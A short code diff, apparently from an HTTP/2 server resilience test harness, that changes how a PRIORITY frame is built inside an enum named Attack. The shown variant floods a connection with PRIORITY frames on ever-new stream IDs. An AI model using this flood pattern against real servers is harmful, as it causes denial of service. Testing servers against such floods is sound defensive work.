@@ -105,7 +105,7 @@ enum Attack {
     void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
       c.begin();
       for (int stream = 3; goesOn.getAsBoolean() && stream > 0; stream += 2) {
-        c.send(frame(PRIORITY, 0, stream, 0, 0, 0, 1, 16));
+        c.send(frame(PRIORITY, 0, stream, new byte[] {0, 0, 0, 1, 16}));
         c.skipInput();
       }
     }
